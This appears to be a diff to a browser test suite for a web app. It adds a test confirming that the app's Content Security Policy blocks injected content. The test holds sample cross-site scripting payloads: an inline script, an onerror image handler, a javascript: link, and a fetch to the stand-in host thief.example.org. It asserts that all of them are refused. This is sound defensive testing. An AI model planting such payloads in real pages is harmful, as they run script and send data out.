@@ -12,7 +12,7 @@ import numpy as np
 import pandas as pd
 import pytest
 from chromium import NEEDS_CHROMIUM
-from servers import ROOT, app_command, free_port, served
+from servers import ROOT, free_port, served
 
 pytestmark = [
     *NEEDS_CHROMIUM,
@@ -39,7 +39,8 @@ def table(n: int = 400, seed: int = 0) -> bytes:
 def server(tmp_path_factory):
     """The app's address and the folder of its sessions."""
     folder, port = tmp_path_factory.mktemp("server"), free_port()
-    with served(app_command(port), port, folder):
+    command = [sys.executable, "-m", "smartsynth", "serve", "--port", str(port)]  # with its headers
+    with served(command, port, folder):
         yield f"http://127.0.0.1:{port}", folder
 
 
@@ -241,3 +242,33 @@ def test_a_tour_takes_one_click_to_its_report(somebody):
     frame = page.frame_locator("iframe").first
     frame.get_by_role("heading", name="Verdict").wait_for(timeout=20_000)
     assert page.noise == []
+
+
+def test_no_foreign_script_runs_and_nothing_leaves(somebody, server, browser):
+    """If markup ever got into a page: its script does not run, and it reaches no other server. Nor does another page show this one."""
+    page = somebody()
+    before = len(page.noise)
+    page.evaluate("""async () => {
+        const inside = document.createElement('script');
+        inside.textContent = 'window.ran = 1';
+        document.body.append(inside);
+        document.body.insertAdjacentHTML('beforeend', '<img src="https://thief.example.org/x.png" onerror="window.ran = 2">');
+        document.body.insertAdjacentHTML('beforeend', '<a id="trap" href="javascript:window.ran = 3">x</a>');
+        document.getElementById('trap').click();
+        window.sent = await fetch('https://thief.example.org/').then(() => true, () => false);
+    }""")
+    page.wait_for_timeout(300)
+    assert page.evaluate("[window.ran, window.sent]") == [None, False]
+    refused = [text for text in page.noise[before:] if "Content Security Policy" in text]
+    assert len(refused) >= 4
+    answer = page.request.get(server[0])
+    assert answer.headers["referrer-policy"] == "no-referrer"
+    assert answer.headers["x-content-type-options"] == "nosniff"
+    assert "frame-ancestors 'none'" in answer.headers["content-security-policy"]
+    other = browser.new_page()
+    said = []
+    other.on("console", lambda message: said.append(message.text))
+    other.set_content(f'<iframe src="{server[0]}" onload="document.title = this.contentDocument ? 1 : 2"></iframe>')
+    other.wait_for_timeout(500)
+    assert any("frame-ancestors" in text for text in said)
+    other.close()
